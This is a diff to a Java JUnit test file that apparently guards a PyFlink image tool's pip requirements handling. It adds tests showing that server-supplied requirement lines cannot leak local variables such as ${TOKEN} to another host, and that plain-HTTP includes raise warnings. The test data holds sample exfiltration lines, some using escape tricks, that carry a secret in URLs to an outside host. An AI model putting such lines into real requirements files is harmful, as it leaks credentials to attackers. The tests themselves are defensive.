@@ -8,6 +8,7 @@ import java.net.URI;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
@@ -15,6 +16,8 @@ import java.util.Optional;
 import java.util.function.LongConsumer;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.pyflinkimage.fetch.Amount;
 import org.pyflinkimage.fetch.Transport;
 import org.pyflinkimage.spec.DiskProject;
@@ -24,6 +27,7 @@ import org.pyflinkimage.value.PyFlinkException;
 class ServerFilesTest {
 
     private final Map<String, String> served = new HashMap<>();
+    private final List<String> shown = new ArrayList<>();
 
     @TempDir
     private Path folder;
@@ -49,6 +53,7 @@ class ServerFilesTest {
         served.put("http://host/more.txt", "one\n");
 
         assertThat(read("-r http://${HOST}/more.txt\n")).containsExactly("one in line 1 of more.txt");
+        assertThat(shown).containsExactly("http://${HOST}/more.txt");
     }
 
     @Test
@@ -76,9 +81,70 @@ class ServerFilesTest {
                 .withMessageContaining("missing.txt");
     }
 
+    /** Whoever writes a server's file could send any variable of this machine to a host of his own. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "--extra-index-url https://other/${TOKEN}/simple/",
+                "--index-url=https://other/${HOST}/simple/",
+                "--find-links https://other/${UNSET}/",
+                "x @ https://other/${TOKEN}/x-1-py3-none-any.whl",
+                "https://other/${TOKEN}/x-1-py3-none-any.whl ; python_version > '3'",
+                "-r https://other/${TOKEN}/more.txt",
+                "-c https://other/${TOKEN}/more.txt",
+                "-e https://other/${TOKEN}/x-1-py3-none-any.whl",
+                "x==1 --config-settings a=${TOKEN}",
+                "x @ https://other/${TO\\\nKEN}/x-1-py3-none-any.whl",
+                "--index-url 'https://other/$'{TOKEN}/simple/",
+            })
+    void nothingOfThisMachineIsPutIntoWhatAServerSays(String line) {
+        served.put("http://host/more.txt", "a\n" + line + "\n");
+
+        for (String option : List.of("-r", "-c")) {
+            assertThatExceptionOfType(PyFlinkException.class)
+                    .isThrownBy(() -> read(option + " http://host/more.txt\n"))
+                    .satisfies(exception -> assertThat(exception.problems())
+                            .extracting(Problem::code)
+                            .containsExactly("PYF-474"))
+                    .withMessageContaining("in line 2 of `more.txt` names a variable of this machine")
+                    .withMessageNotContaining("s3cr3t");
+        }
+    }
+
+    @Test
+    void aNameWithAVariableStaysAsItStands() {
+        served.put("http://host/more.txt", "-r ${TOKEN}.txt\n");
+
+        assertThatExceptionOfType(PyFlinkException.class)
+                .isThrownBy(() -> read("-r http://host/more.txt\n"))
+                .withMessageContaining("the file `${TOKEN}.txt`");
+    }
+
+    @Test
+    void whatEverybodyInBetweenCanChangeIsWarnedOf() throws IOException {
+        Path file = Files.writeString(
+                folder.resolve("requirements.txt"),
+                "-r http://example.invalid/${TOKEN}/a.txt\n-c HTTP://192.0.2.1/b.txt\n-r https://example.invalid/c.txt\n"
+                        + "-r http://localhost/d.txt\n-r http://127.0.0.1:8080/e.txt\n");
+
+        assertThat(servers().warnings(DiskProject.requirements(file)))
+                .allSatisfy(problem -> assertThat(problem.code()).isEqualTo("PYF-469"))
+                .extracting(Problem::what)
+                .containsExactly(
+                        "`--requirement http://example.invalid/${TOKEN}/a.txt` in line 1 of `%s` comes over plain HTTP"
+                                .formatted(file),
+                        "`--constraint HTTP://192.0.2.1/b.txt` in line 2 of `%s` comes over plain HTTP".formatted(file));
+    }
+
+    private ServerFiles servers() {
+        Map<String, String> variables = Map.of("HOST", "host", "TOKEN", "s3cr3t-s3cr3t");
+        return new ServerFiles(
+                new Served(), new AddressVariables(name -> Optional.ofNullable(variables.get(name))));
+    }
+
     private List<String> read(String text) throws IOException {
         Path file = Files.writeString(folder.resolve("requirements.txt"), text);
-        return new ServerFiles(new Served(), name -> Optional.of("host").filter(value -> name.equals("HOST")))
+        return servers()
                 .read(DiskProject.requirements(file)).lines().stream()
                         .map(line -> "%s in line %s of %s%s"
                                 .formatted(
@@ -90,6 +156,12 @@ class ServerFilesTest {
     }
 
     private final class Served implements Transport {
+        @Override
+        public Optional<byte[]> read(URI address, String text) {
+            shown.add(text);
+            return read(address);
+        }
+
         @Override
         public Optional<byte[]> read(URI address) {
             return Optional.ofNullable(served.get(address.toString()))
